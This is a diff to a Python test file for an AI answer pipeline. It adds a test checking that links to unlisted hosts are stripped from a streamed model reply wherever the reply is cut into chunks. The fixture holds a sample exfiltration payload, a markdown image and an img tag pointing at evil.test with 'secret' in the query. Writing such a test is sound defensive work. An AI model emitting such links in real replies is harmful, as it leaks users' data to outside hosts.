@@ -9,14 +9,17 @@ import pytest
 
 from functions.build_prompt.handler import build_prompt
 from functions.call_model.handler import call_model
+from functions.parse_reply.handler import parse_reply
 from functions.retrieve_context.handler import retrieve_context
 from functions.run_external_tool.handler import run_external_tool
 from functions.run_tool.handler import run_tool
+from functions.save_answer.handler import save_answer
 from plinth.adapters.checked_web import CheckedWeb
 from plinth.adapters.child_process_parser import ChildProcessParser
+from plinth.contracts.events import RunEnded, TextDelta
 from plinth.contracts.memory import StoredPassage
 from plinth.contracts.models import ModelEnd, StopReason, ToolCall, ToolResult
-from plinth.contracts.runs import Run
+from plinth.contracts.runs import Answer, Run
 from plinth.contracts.tools import ToolOutcome
 from plinth.runtime import tool_calls
 from plinth.tools.tool import Surroundings, Tool
@@ -170,3 +173,39 @@ def test_a_write_that_is_given_up_can_not_happen_later_and_the_model_is_told_of_
     assert ended.wait(20)
     assert "longer than 0.05 s. It may have been done, or not." in result.text
     assert services.facts.all(TENANT, "ann") == []
+
+
+LEAK = (
+    "Nine [1]. ![x",
+    "](https:/",
+    "/evil.test/?q=",
+    "secret) <img sr",
+    "c=//evil.test/a> See https",
+    "://docs.example.org",
+)
+
+
+def test_no_link_to_a_host_that_is_not_listed_reaches_a_reader_or_a_store_however_it_is_cut(
+    services: ChainServices, call: Call, accept: Callable[..., Run]
+) -> None:
+    run = accept("Why?", conversation_id="c1", link_hosts=("docs.example.org",))
+    call(retrieve_context, run=run)
+    services.runs.put_content(run, "passages", (passage(),))
+    call(build_prompt, run=run)
+    services.model = FakeModel((LEAK, whole()))
+
+    call(call_model, run=run, attempt=1)
+    call(parse_reply, run=run)
+    call(save_answer, run=run, cached=False, cache_key="key")
+
+    shown = "Nine [1]. ![x] ((link removed)) &lt;img src=(link removed)> See https://docs.example.org"
+    events = [logged.event for logged in services.run_log.read(TENANT, run.id, after=0)]
+    answer = services.runs.get_content(run, "answer", Answer)
+    cached = services.answers.get(TENANT, "key")
+    (turn,) = services.conversations.recent(TENANT, "ann", "c1", limit=5)
+    assert "".join(event.text for event in events if isinstance(event, TextDelta)) == shown
+    assert cached is not None
+    assert {answer.text, cached.answer.text, turn.answer} == {shown}
+    assert [citation.marker for citation in answer.citations] == [1]
+    (ended,) = (event for event in events if isinstance(event, RunEnded))
+    assert ended.text_length == len(shown)
